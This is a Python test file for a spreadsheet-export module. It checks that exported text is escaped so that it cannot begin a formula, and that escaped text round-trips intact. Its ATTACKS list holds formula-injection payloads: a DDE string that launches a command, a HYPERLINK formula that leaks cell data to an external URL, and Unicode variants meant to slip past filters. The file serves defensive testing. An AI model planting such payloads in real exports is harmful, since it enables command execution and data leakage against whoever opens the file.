"""Text of documents never acts in a spreadsheet, and comes back letter by letter."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rashomon.records import Span
from rashomon.report.exports.cells import as_text, listed, marked, number, unlisted, unmarked, whole

ATTACKS = [
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    '=HYPERLINK("https://example.org?"&A1;"look")',
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    '"=1',
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫1",
    "⁺1",
    "⁻1",
    "₌1",
    "-2 °C at night",
    "words;=1",
    "words; =1",
    "words\t=1",
    "words\n=1",
    'a;"=1',
    "'=1",
    "''=1",
    "a;'=1",
]


def dangerous(text: str) -> bool:
    """Tell whether a program could begin a formula in a text, however it cuts it; not by the rule of `marked`."""
    cells = [text]
    for cut in ";\t\r\n":
        cells = [part for cell in cells for part in cell.split(cut)]
    for cell in cells:
        bare = cell.lstrip('"').strip()
        bare = "".join(c for c in bare if unicodedata.category(c) not in ("Cf", "Cc")).lstrip().lstrip('"').lstrip()
        if unicodedata.normalize("NFKC", bare)[:1] in ("=", "+", "-", "@") and bare:
            return True
    return False


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_begins_a_formula(text: str) -> None:
    assert not dangerous(marked(text))
    assert unmarked(marked(text)) == text


@pytest.mark.parametrize("text", ["", "a", "a=b", "e-mail", "3-4", "“=1”", "O'Brien", "'tis", "a ; b", "a, -1", ";a=1"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert marked(text) == text


@given(
    st.text(st.sampled_from("=+-@'\";\t\r\n a1＝－\u200b\u00a0|"), max_size=12) | st.text(st.characters(), max_size=30)
)
@example("';'=")
@settings(max_examples=1000)
def test_every_text_comes_back_and_none_acts(text: str) -> None:
    assert unmarked(marked(text)) == text
    assert not dangerous(marked(text))


@given(st.lists(st.text(min_size=1), max_size=5))
@example(["|", "\\", " | "])
@example(["a | b"])
@example([" "])
def test_lists_come_back(items: list[str]) -> None:
    assert unlisted(listed(items)) == tuple(items)


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_are_written_in_digits_and_come_back(value: float) -> None:
    text = number(value)
    assert "e" not in text
    assert float(text) == value


@pytest.mark.parametrize(
    ("kind", "value", "text"),
    [
        ("flag", True, "yes"),
        ("flag", False, "no"),
        ("flag", None, ""),
        ("number", -3.0, "-3"),
        ("number", 0.5, "0.5"),
        ("spans", (Span(1, 4), Span(6, 9)), "1-4 6-9"),
        ("ids", ("c1", "c2"), "c1 c2"),
        ("list", ("a", "b|c"), "a | b\\|c"),
    ],
)
def test_values_as_text(kind: str, value: object, text: str) -> None:
    assert as_text(kind, value) == text


def test_half_a_character_is_replaced() -> None:
    assert whole("a\ud800b") == "a\ufffdb"
